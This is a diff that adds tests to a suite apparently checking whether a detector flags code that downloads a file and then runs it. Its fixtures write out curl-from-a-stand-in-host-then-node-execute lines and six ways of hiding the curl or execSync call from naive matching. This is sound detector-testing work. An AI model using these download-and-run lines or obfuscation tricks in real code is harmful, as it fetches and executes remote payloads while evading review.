@@ -101,3 +101,21 @@ describe('what a command downloads', () => {
     expect(isToldAsRun(files)).toBe(isRun);
   });
 });
+
+it.each([
+  ['in parts', "execSync(`cu${'rl'} -o ${place} https://load.example/x`);"],
+  ['with signs as numbers', 'execSync(`\\x63url -o ${place} https://load.example/x`);'],
+  ['with quotes within', "execSync(`c''url -o ${place} https://load.example/x`);"],
+  ['by a name of its own', 'const go = execSync; go(`curl -o ${place} https://load.example/x`);'],
+  ['by a computed member', "cp['exec' + 'Sync'](`curl -o ${place} https://load.example/x`);"],
+  [
+    'by a method of the function',
+    'cp.execSync.apply(cp, [`curl -o ${place} https://load.example/x`]);',
+  ],
+])('is seen where the command is spelled otherwise: %s', (_, download) => {
+  const place =
+    "const cp = require('child_process'); const place = path.join(require('os').tmpdir(), 'x.png');";
+  expect(isToldAsRun({ 'index.js': `${head} ${place} ${download} spawn('node', [place]);` })).toBe(
+    true,
+  );
+});
